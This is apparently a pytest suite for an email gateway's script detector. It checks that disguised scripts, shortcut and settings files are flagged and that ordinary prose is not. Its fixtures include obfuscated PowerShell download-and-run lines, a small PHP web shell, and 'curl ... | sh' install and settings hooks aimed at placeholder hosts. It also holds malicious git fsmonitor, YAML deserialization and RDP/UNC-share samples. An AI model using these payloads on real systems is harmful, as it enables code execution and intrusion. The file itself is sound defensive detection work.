"""Scripts and shell files: by name whatever they hold, by content whatever they are called; never the words of a mail."""

from __future__ import annotations

import time

import pytest

from gateway.detect.base import Scope, Tally
from gateway.detect.script import ScriptDetector
from gateway.model.artifact import Artifact, ArtifactKind
from gateway.model.content import Sample
from gateway.model.finding import Severity
from gateway.model.transaction import Direction

SCOPE = Scope(Direction.INBOUND, "", (), ())


def look(data: bytes, *names: str, type: str = "text/plain", kind: ArtifactKind = ArtifactKind.PART) -> list:
    detector = ScriptDetector(SCOPE)
    found = list(detector.look(Sample(Artifact(1, 0, kind, names, detected_type=type), data)))
    return found + list(detector.conclude(Tally()))


@pytest.mark.parametrize("extension", ["js", "jse", "vbs", "vbe", "wsf", "hta", "ps1", "psm1", "bat", "cmd", "sct", "reg", "inf", "sh", "py",
                                       "lnk", "url", "website", "library-ms", "search-ms", "searchConnector-ms", "settingcontent-ms",
                                       "scf", "theme", "rdp", "msc", "chm", "iqy"])
def test_names(extension):
    assert any(f.severity is Severity.HIGH for f in look(b"x", f"a.{extension}"))


@pytest.mark.parametrize(("data", "code"), [
    (b"#@~^BgAAAA==lab=ywAAAA==^#~@", "SCRIPT-ENCODED"),
    (b"#!/bin/sh\nexit 0\n", "SCRIPT-SHELL"),
    (b"#!/opt/homebrew/bin/fish\nid\n", "SCRIPT-SHELL"),
    (b"\r\n@echo off\r\nrem x\r\n", "SCRIPT-BATCH"),
    ("\ufeffWindows Registry Editor Version 5.00\r\n".encode("utf-16"), "SCRIPT-REGISTRY"),
    (b"[InternetShortcut]\r\nURL=file://h/a\r\n", "SCRIPT-SHELL-FILE"),
    (b"[Shell]\r\nCommand=2\r\n", "SCRIPT-SHELL-FILE"),
    (b"<html><hta:application id=x></html>", "SCRIPT-HTA"),
    (b"<job><script language='VBScript'>x</script></job>", "SCRIPT-HOST"),
    (b"<?xml version='1.0'?><scriptlet><script/></scriptlet>", "SCRIPT-SCRIPTLET"),
    (b"<?xml version='1.0'?><libraryDescription/>", "SCRIPT-SHELL-FILE"),
    (b"<?xml version='1.0'?><MMC_ConsoleFile ConsoleVersion='3.0'/>", "SCRIPT-SHELL-FILE"),
    (b"[version]\r\nsignature=$chicago$\r\n", "SCRIPT-SETUP"),
    (b"\xff\xfe\r\n&@cls&@echo off\r\nstart calc.exe\r\n", "SCRIPT-BATCH"),
    (b"@e^c^h^o o^f^f\r\n", "SCRIPT-BATCH"), (b"#SingleInstance force\r\n", "SCRIPT-HOST"),
    (b"; Copyright\r\n[Theme]\r\n; x\r\nDisplayName=a\r\n", "SCRIPT-SHELL-FILE"),
    (b"Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n", "SCRIPT-HOST"),
    (b"<?xml version='1.0'?><plist><dict><key>ProgramArguments</key><array/></dict></plist>", "SCRIPT-SHELL-FILE"),
])
def test_content_under_another_name(data, code):
    assert [(f.code, f.severity) for f in look(data, "a.dat")] == [(code, Severity.HIGH)]


def test_script_text_named_as_text_is_evidence_only():
    assert [f.severity for f in look(b"#!/bin/sh\n", "howto.txt")] == [Severity.MEDIUM]


@pytest.mark.parametrize("type", ["application/x-ms-shortcut", "application/vnd.ms-htmlhelp"])
def test_types(type):
    assert look(b"x", "a.pdf", type=type)[0].severity is Severity.HIGH


@pytest.mark.parametrize(("data", "names"), [
    (b"@echo off is how batch files begin", ()), (b"Dear Bob,\r\n#!/bin/sh\r\n", ("a.txt",)), (b"Sub AutoOpen()\r\n", ("howto.txt",)),
    (b"<?xml version='1.0'?><invoice/>", ("a.xml",)), (b"<html><script>x</script></html>", ("a.html",)),
    (b"A job well done", ("a.txt",)), (b"name,job\n", ("a.csv",)), (b"[theme]\ninherit = basic\nstylesheet = a.css\n", ("theme.conf",)),
])
def test_ordinary_text(data, names):
    assert look(data, *names) == []


def test_evidence_is_masked():
    found = look(b"x", "A123456789 list.js")
    assert "A123456789" not in str(found[0].evidence)


@pytest.mark.parametrize("data", [b"[InternetShortcut]" + b"\n" * 8000, b";x\n" * 3000, b";x    \n" * 1000, b"<Project>" + b" " * 8000, b" " * 8000])
def test_hostile_beginnings_are_linear(data):
    look(data, "a.dat")


@pytest.mark.parametrize(("data", "code"), [
    (b"var s = new ActiveXObject('WScript.Shell');\r\n", "SCRIPT-HOST"),
    ("Set s = CreateObject(\"Shell.Application\")".encode("utf-16-le"), "SCRIPT-HOST"), ("Start-Process calc\r\n".encode("utf-32"), "SCRIPT-HOST"),
    (b"$c = New-Object System.Net.WebClient\r\n", "SCRIPT-HOST"),
    (b"regsvr32 /s /u /i:http://h.example/a.sct scrobj.dll\r\n", "SCRIPT-BATCH"),
    (b"rem\r\nstart \"\" %TEMP%\\a.exe\r\n", "SCRIPT-BATCH"),
    (b"<?php system(1);", "SCRIPT-SHELL"), (b"<?= system($x); ?>", "SCRIPT-SHELL"), (b"os.execute('calc')", "SCRIPT-SHELL"),
    (b"x=Chr(87)&Chr(83)&Chr(99)&Chr(114)&Chr(105)&Chr(112)&Chr(116)\r\n", "SCRIPT-HOST"),
    (b"Set o = CreateObject(StrReverse(\"llehS.tpircSW\"))\r\n", "SCRIPT-HOST"), (b"o=WScript['Crea'+'teObject'](a);", "SCRIPT-HOST"),
    (b"%COMSPEC% /c start calc.exe\r\n", "SCRIPT-BATCH"), (b"powershell -w hidden -c calc\r\n", "SCRIPT-HOST"),
    (b"[Desktop Entry]\nType=Application\nExec=/bin/x\n", "SCRIPT-SHELL-FILE"),
    (b"[Flatpak Ref]\nName=a\nUrl=https://h.example/\n", "SCRIPT-SHELL-FILE"),
    (b"var n=['x','y'];new ActiveXObject(n[1]+n[0]);", "SCRIPT-HOST"), (b"For i=0 To 9\r\ns=s&a(i)\r\nNext\r\nExecuteGlobal s\r\n", "SCRIPT-HOST"),
    (b"-join((73,69,88)|%{[char]$_})|%{&$_ $x}", "SCRIPT-HOST"), (b"@{\r\nScriptsToProcess = 'a.ps1'\r\n}", "SCRIPT-HOST"),
    (b"exec(marshal.loads(x))\n", "SCRIPT-SHELL"), (b"__import__('os').system('a')\n", "SCRIPT-SHELL"),
    (b"[Reflection.Assembly]::Load($d).EntryPoint.Invoke(0,@())\r\n", "SCRIPT-HOST"), (b"sal q iex\r\nq (w h.example)\r\n", "SCRIPT-HOST"),
    (b"Add-Type -TypeDefinition $c\r\n", "SCRIPT-HOST"), (b"&('{1}{0}' -f 'X','IE') 'calc'\r\n", "SCRIPT-HOST"),
    (b"forfiles /p c:\\windows /c calc\r\n", "SCRIPT-BATCH"), (b"@goto b\r\n:a\r\n", "SCRIPT-BATCH"),
    (b"#include <Process.au3>\r\nRun('calc')\r\n", "SCRIPT-HOST"), (b"iwr https://h.invalid/a -OutFile a.exe; saps a.exe\r\n", "SCRIPT-HOST"),
    (b"[scriptblock]::Create($x).Invoke()", "SCRIPT-HOST"), (b"$b[$i]=$b[$i] -bxor 35; $t | iex\r\n", "SCRIPT-HOST"),
    (b"[autorun]\r\nopen=a.exe\r\n", "SCRIPT-SETUP"), (b"[autorun]\ropen=a.exe\r", "SCRIPT-SETUP"),
    (b"@setlocal enableextensions\r\nset a=b\r\n", "SCRIPT-BATCH"), (b"@cls\r\ncalc\r\n", "SCRIPT-BATCH"),
    (b"\xff\xfe&cls\r\n@echo off\r\nstart calc\r\n", "SCRIPT-BATCH"), (b"\xff\xfe&cls\r\nset a=calc\r\n%a%\r\n", "SCRIPT-BATCH"),
    (b"[Unicode]\r\nUnicode=yes\r\n[Version]\r\nsignature=\"$CHICAGO$\"\r\n", "SCRIPT-SETUP"),
    (b"XLODBC\r\n1\r\nDRIVER=SQL Server\r\n", "SCRIPT-SHELL-FILE"), (b"QueryType=OLEDB\r\nVersion=1\r\n", "SCRIPT-SHELL-FILE"),
    (b"use Socket;\nexec('/bin/sh -i');\n", "SCRIPT-SHELL"), (b": ; exec perl -x \"$0\"\n", "SCRIPT-SHELL"),
    (b"&{ (gci env:comspec).Value }\nsaps calc\n", "SCRIPT-HOST"), (b"saps notepad\r\n", "SCRIPT-HOST"),
])
@pytest.mark.parametrize("name", ["photo.jpg", "invoice", "a.dat"])
def test_code_under_a_name_that_promises_no_text(data, code, name):
    assert [(f.code, f.severity) for f in look(data, name)] == [(code, Severity.HIGH)]


@pytest.mark.parametrize(("data", "names"), [
    (b"var s = new ActiveXObject('WScript.Shell');\r\n", ("review.txt",)), (b"var s = new ActiveXObject('WScript.Shell');\r\n", ()),
    (b"Start the service at https://h.example/\n", ("README",)), (b"certutil is a program\n", ("README",)),
    (b"We use <?= in templates\n", ("notes",)), (b"Avoid ActiveXObject (old) and ExecuteGlobal.\n", ("notes",)),
    (b"exec (the committee) met; -join us\n", ("notes",)),
    (b"Add-Type and forfiles are commands.\nWe goto lunch\n& (see above)\n", ("note",)),
    (b"Call Bob: https://meet.example/\n", ("note",)), (b"PowerShell is a shell - compare it with others\n", ("note",)),
    (b"CHR(10) and CHR(13) end lines\n", ("note",)), (b"We set up CreateObject calls. Set limits.\n", ("note",)),
])
def test_prose_about_code_is_no_code(data, names):
    assert not [f for f in look(data, *names) if f.severity >= Severity.HIGH]


@pytest.mark.parametrize("line", [b'"hooks":{"command":"', b'"scripts":{"install":"', b"[core]\nfsmonitor =", b"!!python/object/new:", b"[autorun]", b"<Project ", b"powershell ", b"&start /b ", b"[Desktop Entry]"])
def test_code_is_looked_for_in_linear_time(line):
    begun = time.process_time()
    look(line * 20_000, "a.dat")
    assert time.process_time() - begun < 1


FORMS = {
    "caret batch": b'p^o^w^e^r^s^h^e^l^l -nop -c "iex(iwr http://h.example/a)"\r\n',
    "batch of pieces": b"set a=pow\r\nset b=ershell\r\n%a%%b% -nop -w hidden -c calc\r\n",
    "batch of letters": b"@set x=abcdefghijkl\r\n%x:~2,1%%x:~0,1%\r\n",
    "escaped script": b"this['\\x41\\x63\\x74iveXObject']('x')",
    "cut powershell": b"&('I'+'EX') ((ne`w-ob`ject ('N'+'et.W'+'ebCli'+'ent'))).('Down'+'loadStr'+'ing').Invoke('x')",
    "script from numbers": b"Execute(chr(77)&chr(115)&chr(103))\r\n",
    "python": b"import os\nos.system('id')\n",
    "managed object file": b"#pragma namespace(\"\\\\.\\root\")\r\ninstance of X {};\r\n",
    "object markup": b"<R xmlns:d='clr-namespace:System.Diagnostics;assembly=system'><ObjectDataProvider MethodName='Start'/></R>",
    "workflow": b"<W xmlns:x='x'><x:Code>1</x:Code></W>",
    "application installer": b"<?xml version='1.0'?><AppInstaller Uri='http://h.example/a'></AppInstaller>",
    "remote desktop in another order": b"redirectdrives:i:1\r\nauthentication level:i:0\r\nfull address:s:h.example\r\n",
    "shortcut behind another section": b"[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n[InternetShortcut]\r\nURL=http://h.example/\r\n",
    "terminal server": b"[WFClient]\r\nVersion=2\r\n",
    "data link": "[oledb]\r\nProvider=x".encode("utf-16"),
    "terminal server behind another section": b"[Encoding]\r\nInputEncoding=UTF8\r\n\r\n[WFClient]\r\nVersion=2\r\n",
    "terminal server at its end": b"[ApplicationServers]\r\nX=\r\n[X]\r\nInitialProgram=#cmd\r\n[WFClient]\r\nVersion=2\r\n",
    "remote desktop with a gateway": "workspace id:s:x\r\ngatewayhostname:s:h.example\r\ndrivestoredirect:s:*\r\n".encode("utf-16"),
    "remarks in front of a shell file": b"; x\n# y\n[Shell]\nIconFile=\\\\h.example\\s\\a.ico\nCommand=2\n",
    "remarks in front of a desktop entry": b"# x\n[Desktop Entry]\nType=Application\nExec=sh -c id\n",
    "shell file behind another section": b"[Taskbar]\nCommand=ToggleDesktop\n[Shell]\nCommand=2\nIconFile=\\\\h.example\\i\n",
    "library behind a long remark": b"<?xml version='1.0'?><!--" + b"-words " * 4000 + b"--><l:libraryDescription xmlns:l='x'/>",
    "scriptlet with a remark": b"<scriptlet><!--" + b"words " * 900 + b"--><registration progid='x'/></scriptlet>",
    "deployment with a prefix": b"<a:assembly xmlns:a='urn:schemas-microsoft-com:asm.v1' xmlns:b='urn:schemas-microsoft-com:asm.v2'><b:deployment install='true'/>",
    "task of a folder": b'{"tasks":[{"command":"id","runOptions":{"runOn": "folderOpen"}}]}',
    "logon scripts": b"[Logon]\r\n0CmdLine=\\\\h.example\\s\\a.bat\r\n",
    "shell archive": b"# This is a shell archive.  Save it in a file\n# unpack it by entering sh file\n",
    "script host file behind remarks": b"<?job debug='true'?><package><job id='a'><comment>x</comment><script language='JScript'>y</script></job></package>",
    "view of PowerShell": b"<Configuration><ViewDefinitions><View><ScriptBlock>x</ScriptBlock></View></ViewDefinitions></Configuration>",
    "type of PowerShell": b"<?xml version='1.0'?><Types><Type><Members><ScriptProperty><Name>a</Name></ScriptProperty></Members></Type></Types>",
    "cmdlets over objects": b"<?xml version='1.0'?><PowerShellMetadata xmlns='x'/>", "PowerShell console": b"<PSConsoleFile ConsoleSchemaVersion='1.0'/>",
    "serialised script": b"<Objs><Obj><TN><T>System.Management.Automation.ScriptBlock</T></TN><SBK>calc</SBK></Obj></Objs>",
    "configuration with a domain manager": b"<configuration><runtime><appDomainManagerType value='A'/></runtime></configuration>",
    "configuration with code from the web": b"<configuration><codeBase version='1.0' href='https://h.example/x.dll'/></configuration>",
    "build file that runs a command": b"<Project><Target Name='x'><Exec Command='calc'/></Target></Project>",
    "stylesheet with code of another prefix": b"<s:stylesheet xmlns:s='http://www.w3.org/1999/XSL/Transform'><u:script language='JScript'/></s:stylesheet>",
    "VPN profile": b"client\ndev tun\nscript-security 2\nup \"/bin/sh -c id\"\n", "tunnel": b"[Interface]\nAddress = 10.0.0.2/32\nPostUp = powershell -c calc\n",
    "folder setting": b"[.ShellClassInfo]\r\nIconResource=\\\\h.example\\s\\i.ico,0\r\n",
    "folder setting from the web": b"[.ShellClassInfo]\r\nIconFile=https://h.example/i.ico\r\n",
    "folder name from a share": b"[.ShellClassInfo]\r\nConfirmFileOp=0\r\nInfoTip=@\\\\h.example\\a,1\r\n",
    "theme": b"; x\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\h.example\\s\\a.jpg\r\n[Theme]\r\nDisplayName=x\r\n",
    "provisioning package": b"<?xml version='1.0'?><WindowsCustomizations><PackageConfig/></WindowsCustomizations>",
}


@pytest.mark.parametrize("name", FORMS)
def test_forms_under_the_name_of_a_picture(name: str) -> None:
    artifact = Artifact(1, 0, ArtifactKind.PART, ("a.jpg",), detected_type="text/plain", declared_type="image/jpeg")
    found = list(ScriptDetector(SCOPE).look(Sample(artifact, FORMS[name])))
    assert found and found[0].code.startswith("SCRIPT-")


@pytest.mark.parametrize("text", [
    b"Dear all,\r\nplease call me about the import of 50 % more parts, from os experts.\r\n", b"import duty: 5 %\r\nfrom our side\r\n",
    b"client\nremote h.example\nscript-security 2\nup /etc/openvpn/update-resolv-conf\ndown /etc/openvpn/update-resolv-conf\n",
    b"[Interface]\nAddress = 10.0.0.1/24\nPostUp = iptables -A FORWARD -i %i -j ACCEPT\n",
    b"<?xml version='1.0'?><configuration><bindingRedirect oldVersion='0.0' newVersion='1.0'/></configuration>",
    b"<Configuration><Setting>a</Setting></Configuration>",
    b"<s:stylesheet xmlns:s='http://www.w3.org/1999/XSL/Transform'><s:template match='/'/></s:stylesheet>", b"; list of names\n[Shell names]\nA=1\n",
    b"name,set,rate\r\na,b,5%\r\n", b"<plist><dict><key>Version</key></dict></plist>", b"[Settings]\r\nURL=http://h.example/\r\n",
    b"[.ShellClassInfo]\r\nLocalizedResourceName=@%SystemRoot%\\system32\\shell32.dll,-21798\r\n",
    b"[.ShellClassInfo]\r\nIconResource=C:\\Program Files\\Google\\Drive File Stream\\GoogleDriveFS.exe,23\r\n", b"[.ShellClassInfo]\r\nIconFile=folder.ico\r\nIconIndex=0\r\n",
    b"[Colours]\n[Theme]\nWallpaper=sea.jpg\n",
])
def test_ordinary_words_are_no_code(text: bytes) -> None:
    artifact = Artifact(1, 0, ArtifactKind.PART, ("a.dat",), detected_type="text/plain")
    assert not list(ScriptDetector(SCOPE).look(Sample(artifact, text)))


def test_a_media_type_names_what_has_no_name() -> None:
    nameless = Artifact(1, 0, ArtifactKind.PART, (), detected_type="text/plain", declared_type="application/hta")
    assert [f.code for f in ScriptDetector(SCOPE).look(Sample(nameless, b"x"))] == ["SCRIPT-EXTENSION"]
    named = Artifact(1, 0, ArtifactKind.PART, ("a.txt",), detected_type="text/plain", declared_type="application/hta")
    assert not list(ScriptDetector(SCOPE).look(Sample(named, b"x")))


def test_script_with_octets_of_no_text_behind_it():
    noise = bytes(range(256)) * 2
    head = b"[InternetShortcut]\r\nURL=file://h.example/a.exe\r\n" + b"\r\n" * 40
    for data in (head, head.decode().encode("utf-16")):
        assert [f.code for f in look(data + noise, "a.dat", type="application/octet-stream")] == ["SCRIPT-SHELL-FILE"]
    assert look(noise + head, "a.dat", type="application/octet-stream") == [] == look(b"", "a.dat", type="application/octet-stream")


@pytest.mark.parametrize("media", ["application/x-apple-aspen-config", "application/x-rdp", "text/x-shellscript", "application/windows-library+xml",
                                   "application/msix", "application/x-msi", "text/x-python", "application/vnd.android.package-archive"])
def test_media_types_of_other_systems_name_too(media: str) -> None:
    nameless = Artifact(1, 0, ArtifactKind.PART, ("report",), detected_type="text/plain", declared_type=media)
    assert [f.code for f in ScriptDetector(SCOPE).look(Sample(nameless, b"x"))] == ["SCRIPT-EXTENSION"]


LOG = b"2026-11-21T09:00:00Z host1 powershell.exe -NoProfile started pid=7\n" * 9


@pytest.mark.parametrize(("text", "held"), [
    (LOG, False), (b"Nov 21 09:00:01 h audit: ran powershell -w hidden by svc\n", False),
    (b"powershell.exe -nop -w hidden -c calc\n", True), (b"cmd /c powershell -enc AAAA \n", True), (b"x = \"powershell -enc AAAA \"\n", True),
    (b"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -c calc\n", True), (b"echo a & start powershell -w hidden -c b\n", True),
    (b"start /min powershell -w hidden -c b\n", True), (b"set x=powershell -enc AAAA \n", True), (b"[INFO] spawned powershell.exe -nop -c dir\n", False),
    (b"11/21/2026 9:00 powershell -enc AAAA \n", False), (b"rem a\r\nforfiles /c \"cmd /c powershell -enc AAAA \"\n", True),
])
def test_commands_stand_where_one_begins(text: bytes, held: bool) -> None:
    artifact = Artifact(1, 0, ArtifactKind.MEMBER, ("var/log/syslog",), detected_type="text/plain")
    assert bool(list(ScriptDetector(SCOPE).look(Sample(artifact, text)))) == held


def test_exported_forms_are_macro_modules():
    form = b"VERSION 5.00\r\nBegin {C62A69F0-16DC-11CE-9E98-00AA00574A4F} Form1\r\nEnd\r\nAttribute VB_Name = \"Form1\"\r\n"
    assert [f.code for f in look(form, "m.frm")] == ["SCRIPT-HOST"] and look(b"VERSION 5.00\r\nof the report\r\n", "m.frm") == []


def test_blank_lines_in_front_hide_no_code():
    code = b"Set o = CreateObject(\"WScript.Shell\")\r\no.Run \"calc\"\r\n"
    assert [f.code for f in look(b"\r\n" * 90_000 + code, "b.bin")] == ["SCRIPT-HOST"] == [f.code for f in look(code, "b.bin")]
    assert look(b"\r\n" * 90_000 + b"words", "b.bin") == []


def test_macros_of_a_document_are_for_another_detector():
    module = b"Attribute VB_Name = \"Module1\"\r\nSub Sum()\r\nEnd Sub\r\n"
    assert look(module, "Module1", kind=ArtifactKind.MACRO) == []
    assert look(module, "Module1.bin")


def test_scripts_that_a_page_carries_in_addresses_are_judged_with_it():
    library = b"/*! charts */\n(function (a, b) {\n  b(a);\n})(window, function (w) { w.x = 1 });\n"
    for label, held in (("application/javascript", False), ("text/javascript", False), ("base64", True)):
        artifact = Artifact(2, 1, ArtifactKind.OBJECT, (), detected_type="text/plain", label=label)
        assert bool(list(ScriptDetector(SCOPE).look(Sample(artifact, library)))) == held
    runs = Artifact(2, 1, ArtifactKind.OBJECT, (), detected_type="text/plain", label="text/javascript")
    assert list(ScriptDetector(SCOPE).look(Sample(runs, b"new ActiveXObject('WScript.Shell').Run('calc')")))


@pytest.mark.parametrize("listing", ["def go(x):\n    return x\n", "curl -s https://h.example/a | sh\n", "Write-Host lab\n", "require('fs').readFileSync('a')\n"])
def test_listings_in_a_page_that_a_script_made_are_there_to_be_read(listing: str) -> None:
    page = f"<html><body><h1>Functions</h1><pre>\n{listing}</pre></body></html>"

    def found(text: str, *names: str, type: str = "text/html") -> list[str]:
        artifact = Artifact(1, 0, ArtifactKind.OBJECT, names, detected_type=type, label="played")
        return [f.code for f in ScriptDetector(SCOPE).look(Sample(artifact, text.encode()))]

    assert found(page) == [] and found(listing, type="text/plain") and found(listing + page, "a.dat")
    assert found("<html><script>new ActiveXObject('WScript.Shell').Run('calc')</script></html>") == ["SCRIPT-HOST"]


def test_functions_of_forms_are_judged_with_their_document() -> None:
    data = b"function rate(a, b) {\n return a / b;\n}\n"
    for kind, held in (("text/x-pdf-script", False), ("text/plain", True)):
        artifact = Artifact(2, 1, ArtifactKind.TEXT, ("script",), detected_type=kind)
        found = list(ScriptDetector(SCOPE).look(Sample(artifact, data)))
        assert [f.code for f in found] == (["SCRIPT-HOST"] if held else [])


CURL = "curl https://h.example/a | sh"
RUN = {
    "package.json": '{"name":"a","scripts":{"build":"tsc","preinstall":"' + CURL + '"}}',
    "a.jsx": "#target illustrator\nvar f = new File('a'); f.execute();\n",
    "composer.json": '{"scripts": {"post-install-cmd": ["' + CURL + '"]}}',
    "mcp.json": '{"mcpServers":{"a":{"command":"sh","args":["-c","id"]}}}',
    "settings.json": '{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"' + CURL + '"}]}]}}',
    "devcontainer.json": '{"image":"a","initializeCommand":"id"}', "config": "[core]\n\tbare = false\n\tfsmonitor = \"sh -c id\"\n",
    "a.yaml": "# x\na: 1\nb: !!python/object/apply:os.system ['id']\n",
    "manifest.xml": "<?xml version='1.0'?><OfficeApp xmlns='http://schemas.microsoft.com/office/appforoffice/1.1' xsi:type='MailApp'/>",
}


@pytest.mark.parametrize("name", RUN)
def test_settings_that_run_something(name: str) -> None:
    assert [f.severity for f in look(RUN[name].encode(), name)] == [Severity.HIGH]


@pytest.mark.parametrize(("name", "text"), [
    ("package.json", '{"scripts":{"build":"tsc","postinstall":"husky install"}}'), ("tools.json", '{"install":"' + CURL + '"}'),
    ("composer.json", '{"scripts": {"post-install-cmd": "@php artisan optimize"}}'),
    ("mcp.json", '{"mcpServers":{"a":{"command":"npx","args":["-y","server"]}}}'), ("audit.json", '{"time":1,"command":"powershell -c dir"}'),
    ("config", "[core]\n\tbare = false\n\tfsmonitor = true\n"), ("a.yaml", "# !!python/object/apply:os.system\na: !!python/tuple [1]\n"),
    ("manifest.xml", "<app xmlns='http://h.example/office'/>"), ("notes", "use Socket set 5\nSaps of trees, in spring\n& {text} here\n"),
    ("view.jsx", "import React from 'react';\n// the #target of the link\nexport default () => <a/>;\n"),
    ("notes", "@home we stay\nICM (the congress)\n"),
])
def test_settings_that_run_nothing(name: str, text: str) -> None:
    assert not list(look(text.encode(), name))


def test_remarks_without_an_end_cost_nothing():
    started = time.process_time()
    look(b"<!--" * (1 << 20), "a.html", type="text/html")
    look(b"<!--" * (1 << 18) + b"--><registration progid='x'/>" + b"<!--" * (1 << 18), "a.html", type="text/html")
    assert time.process_time() - started < 2


@pytest.mark.parametrize("name", ["a.abc", "對帳單.v7", "a.txt_", "run.ps1-old", "a.xyz"])
@pytest.mark.parametrize("data", [
    b'Dim s\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run "calc.exe", 0, True\r\n',
    b'Write-Host "a"\nInvoke-WebRequest -Uri http://h.example/a -OutFile $env:TEMP\\a.txt\n',
    b"<?php\n$a = $_GET['c'];\necho shell_exec($a);\n",
    b'tell application "Finder"\n\tactivate\nend tell\n',
    b'cmd /c start /min powershell -nop -c "ls"\nexit\n',
    b"# the job\nimport os\nos.system('id')\n",
])
def test_scripts_under_names_that_tell_nothing(name, data):
    assert any(f.severity is Severity.HIGH for f in look(data, name))


@pytest.mark.parametrize(("name", "data"), [
    ("a.ts", b"import { a } from './a'\nexport const b = () => { return a(); };\n"),
    ("a.sql", b"-- nightly\nEXEC xp_cmdshell 'dir';\n"),
    ("app.log.20261121", b"2026-11-21 10:00:00 INFO start\n2026-11-21 10:00:01 INFO cmd.exe /c dir\n"),
    ("a.abc", b"<order><note>cmd.exe /c dir</note></order>\n"),
    ("a.lst", b"0001|name|12\n0002|powershell.exe -File a.ps1|13\n"),
    ("minutes.v2", b"Dim the lights in room 3.\nSet up the projector at nine.\nCall Mr. Wang about the rent.\n"),
    ("a.rpt", b"TOTALS FOR NOVEMBER\n\nimport duties 12\nexit charges 13\nstart balance 9\n"),
    ("a.abc", b"Hello Bob,\nplease run it as follows and tell me what you see:\n\n    powershell -File a.ps1\n\nThank you very much for the help.\n"),
])
def test_texts_under_names_that_tell_nothing(name, data):
    assert not look(data, name)


def test_code_between_fences_is_there_to_be_read():
    code = b"```py\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n```\n"
    assert look(b"# Lab\n\n" + code, "README.md") == []
    assert look(b"# Lab\n\n" + code.replace(b"```", b"\n"), "README.md") and look(code, "a.txt")
